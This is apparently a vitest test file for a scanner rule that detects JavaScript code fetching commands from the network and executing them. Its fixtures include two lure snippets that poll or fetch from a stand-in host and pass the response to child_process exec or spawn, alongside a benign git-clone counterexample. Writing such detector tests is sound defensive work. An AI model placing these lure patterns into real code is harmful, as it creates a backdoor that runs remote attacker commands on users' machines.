import { describe, expect, it } from 'vitest';
import { hitsOf } from '../../../test/support/analyse.ts';
import detector from './command-from-network.ts';

describe('command-from-network', () => {
  it('catches remote commands', async () => {
    const lures = [
      `const axios = require('axios'); const { exec } = require('child_process'); setInterval(async () => { const { data } = await axios.get('https://fixture.invalid/t'); exec(data.cmd); }, 5000);`,
      `const cp = require('child_process'); fetch('https://fixture.invalid/t').then(r => r.text()).then(t => cp.spawn('sh', ['-c', t]));`,
    ];
    for (const lure of lures)
      expect(
        (await hitsOf(detector, { 'a.js': lure })).map((hit) => hit.weight),
        lure,
      ).toEqual(['proof']);
  });

  it('twin: an answer as an argument of a fixed program', async () => {
    const code = `const axios = require('axios'); const { exec, spawn } = require('child_process'); axios.get('https://api.example/repo').then(({ data }) => { exec('git clone ' + data.url); spawn('git', ['clone', data.url]); exec(\`git checkout \${data.ref}\`); });`;
    expect(await hitsOf(detector, { 'a.js': code })).toEqual([]);
  });
});
